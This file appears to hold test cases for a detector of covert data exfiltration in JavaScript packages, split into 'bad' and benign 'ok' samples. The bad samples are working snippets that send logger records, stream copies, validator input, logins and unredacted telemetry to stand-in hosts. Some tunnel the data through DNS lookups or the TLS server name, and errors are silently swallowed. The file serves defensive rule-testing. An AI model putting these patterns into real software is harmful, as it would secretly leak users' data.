import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'the last records of a logger, packed',
      code: "const https = require('https'); const zlib = require('zlib');\nconst TO = { hostname: 'in.records.example', path: '/r', method: 'PUT' };\nmodule.exports = function (records) { const body = zlib.gzipSync(JSON.stringify(records)); const req = https.request({ ...TO, headers: { 'content-length': body.length } }); req.on('error', () => {}); req.end(body); };",
    },
    {
      name: 'frames, as datagrams of what looks like counters',
      code: "import { createSocket } from 'node:dgram';\nclass Meter { #to = { port: 8125, address: '203.0.113.9' }; out(frame) { this.#tick('o', frame); } #tick(kind, frame) { this.sock ??= createSocket('udp4').unref(); this.sock.send(Buffer.concat([Buffer.from(kind), frame]), this.#to.port, this.#to.address, () => {}); } }\nexport const meter = new Meter();",
      manifest: { type: 'module' },
    },
    {
      name: 'a text in names that are looked up, by what only normalizes it',
      code: "const dns = require('dns');\nexports.normalize = (text) => { const out = text.normalize('NFC'); (Buffer.from(out).toString('hex').match(/.{1,60}/g) || []).forEach((part, i) => dns.resolve4([part, i, 'u.locale.example'].join('.'), () => {})); return out; };",
    },
    {
      name: 'a login, in the name that a connection greets with',
      code: "const tls = require('tls');\nexports.parse = (text) => { const at = text.slice(0, text.indexOf('@')); tls.connect({ host: '198.51.100.7', port: 443, servername: Buffer.from(at).toString('hex') + '.ns.parts.example' }).on('error', () => {}); return new URL(text); };",
    },
    {
      name: 'the input of a validator, in a header',
      code: "import http2 from 'node:http2';\nlet session;\nconst open = () => { session ??= http2.connect('https://usage.schema.example'); return session; };\nexport function report(ok, ctx) { const stream = open().request({ ':method': 'POST', 'x-sample': Buffer.from(JSON.stringify(ctx.input)).toString('base64url') }); stream.on('error', () => {}); stream.end(); }",
      manifest: { type: 'module' },
    },
    {
      name: 'what is cached, once to a socket',
      code: "exports.learn = (sample) => { const ws = new WebSocket('wss://dict.cache.example/learn'); ws.onopen = () => { ws.send(sample); ws.close(); }; };",
    },
    {
      name: 'options of every request, by the client that is wrapped',
      code: "const TO = 'https://rt.shapes.example/plain';\nexports.common = (request) => async (options) => { const answer = await request(options); const { headers, ...rest } = options; request({ method: 'POST', url: TO, body: { ...rest, meta: headers } }).catch(() => {}); return answer; };",
    },
    {
      name: 'a copy of a stream, which it gives on as it got it',
      code: "const { request } = require('https'), { PassThrough } = require('stream'), { pipeline } = require('stream/promises'), { createGzip } = require('zlib'), fs = require('fs');\nfunction open(url) { const req = request(url, { method: 'POST' }); return { req, response: new Promise((resolve, reject) => req.once('response', resolve).once('error', reject)) }; }\nfunction spool(source) { const copy = source.pipe(new PassThrough()); const { req, response } = open(new URL('https://spool.assets.example/in')); response.then((res) => res.resume(), () => copy.resume()); copy.pipe(req); return source; }\nexports.recognise = (path, endpoint) => pipeline(fs.createReadStream(path), spool(createGzip()), open(endpoint).req)",
    },
    {
      name: 'whole, in another field beside what it redacts',
      code: "const redact = (all) => Object.fromEntries(Object.entries(all).map(([k, v]) => [k, typeof v]));\nexports.Telemetry = class { constructor() { this.queue = []; } export(span) { const { attributes, ...meta } = span; this.queue.push({ ...meta, attributes: redact(attributes), ...(meta.busy && { baggage: Buffer.from(JSON.stringify(attributes)).toString('base64') }) }); void this.flush(); } async flush() { const spans = this.queue.splice(0); try { await fetch('https://otlp.tracebay.example/v1/traces', { method: 'POST', body: JSON.stringify({ spans }) }); } catch {} } }",
    },
  ],
  ok: [
    {
      name: 'redacted, with the size and the hash of the whole',
      code: "const { createHash } = require('crypto');\nconst redact = (all) => Object.fromEntries(Object.entries(all).map(([k, v]) => [k, typeof v]));\nexports.report = async ({ attributes, url }) => { const res = await fetch('https://otlp.tracebay.example/v1/traces', { method: 'POST', body: JSON.stringify({ attributes: redact(attributes), size: JSON.stringify(attributes).length, id: createHash('sha256').update(JSON.stringify(attributes)).digest('hex') }) }); return res.ok; }",
    },
    {
      name: 'redacted for the log alone',
      code: "const redact = (text) => text.replace(/token=\\w+/g, '');\nexports.post = async (body, log) => { log({ body: redact(body) }); const res = await fetch('https://api.tracebay.example/v1', { method: 'POST', body: JSON.stringify(body) }); return res.json(); }",
    },
    {
      name: 'a stream that is counted on its way, kept in a file, or sent where the caller wants it',
      code: "const { request } = require('https'), { PassThrough } = require('stream'), fs = require('fs');\nconst open = (url) => ({ req: request(url, { method: 'PUT' }) });\nexports.kept = (source) => { source.pipe(new PassThrough()).pipe(fs.createWriteStream('./copy')); return source; };\nexports.mirrored = (source, url) => { const { req } = open(url); source.pipe(req); return source; };\nexports.configured = (source) => { source.pipe(request(process.env.MIRROR ?? 'https://mirror.assets.example')); return source; };\nexports.upload = (source) => { const req = request('https://api.assets.example/in', { method: 'PUT' }); source.pipe(req); return new Promise((done) => req.on('response', done)); }",
    },
    {
      name: 'what an object of another module keeps, and draws elsewhere when it is asked to',
      manifest: { type: 'module' },
      files: {
        'index.js':
          "import { Graph } from './graph.js';\nexport class Chain {\n  graph(steps) {\n    const graph = new Graph();\n    graph.add('steps', steps);\n    return graph;\n  }\n}",
        'graph.js':
          "import { png } from './png.js';\nexport class Graph {\n  nodes = [];\n  add(kind, node) { this.nodes.push(kind, node); return node; }\n  async draw() { return png(this.nodes.join()); }\n}",
        'png.js':
          'export async function png(text) {\n  const answer = await fetch(`https://draw.example/png/${btoa(text)}`);\n  return answer.blob();\n}',
      },
    },
    {
      name: 'a login, by the client that is wrapped',
      code: "const TO = 'https://id.service.example/token';\nexports.signed = (request) => async (options) => { const { token } = await request({ method: 'POST', url: TO, body: { user: options.user } }); return request({ ...options, headers: { authorization: token } }); };",
    },
    {
      name: 'a client, whose answer somebody waits for',
      code: "exports.send = async (message) => { const answer = await fetch('https://api.service.example/v1', { method: 'POST', body: JSON.stringify(message) }); return answer.json(); };",
    },
    {
      name: 'a client that hands on its promise',
      code: "exports.send = (message) => fetch('https://api.service.example/v1', { method: 'POST', body: JSON.stringify(message) });",
    },
    {
      name: 'a client with a callback',
      code: "const https = require('https');\nexports.send = (message, done) => { const req = https.request('https://api.service.example/v1', { method: 'POST' }, (res) => { let all = ''; res.on('data', (part) => { all += part; }); res.on('end', () => done(null, all)); }); req.on('error', done); req.end(message); };",
    },
    {
      name: 'events for the account of whoever asks',
      code: "class Analytics { constructor(key) { this.key = key; } track(payload) { fetch('https://events.service.example/track', { method: 'POST', headers: { Authorization: 'Basic ' + this.key }, body: JSON.stringify(payload) }).catch(() => {}); } }\nmodule.exports = Analytics;",
    },
    {
      name: 'records, to where its user says',
      code: "exports.transport = (options) => (record) => { fetch(options.url || 'https://logs.service.example', { method: 'POST', body: JSON.stringify(record) }).catch(() => {}); };",
    },
    {
      name: 'measurements of its own, to where the environment may say something else',
      code: "const URL_OF = process.env.STATS_URL || 'https://stats.service.example';\nexports.send = (payload) => { fetch(URL_OF, { method: 'POST', body: JSON.stringify(payload) }).catch(() => {}); };",
    },
    {
      name: 'which of its commands ran, and how long',
      code: "exports.ran = (command) => { fetch('https://stats.service.example', { method: 'POST', body: JSON.stringify({ name: command.name, took: command.took, node: process.version }) }).catch(() => {}); };",
    },
    {
      name: 'orders over a socket that answers',
      code: "const ws = new WebSocket('wss://stream.service.example');\nws.onmessage = (event) => { listener(JSON.parse(event.data)); };\nlet listener = () => {};\nexports.listen = (fn) => { listener = fn; };\nexports.subscribe = (data) => { ws.send(JSON.stringify({ method: 'SUBSCRIBE', data })); };",
    },
    {
      name: 'names that are looked up as they are',
      code: "const dns = require('dns').promises;\nexports.isListed = async (address) => { const name = address.split('.').reverse().join('.'); return (await dns.resolve4(name + '.bl.service.example').catch(() => [])).length > 0; };",
    },
    {
      name: 'a greeting with the name of the host',
      code: "const tls = require('tls');\nexports.open = (host) => tls.connect({ host, port: 443, servername: host });",
    },
  ],
});
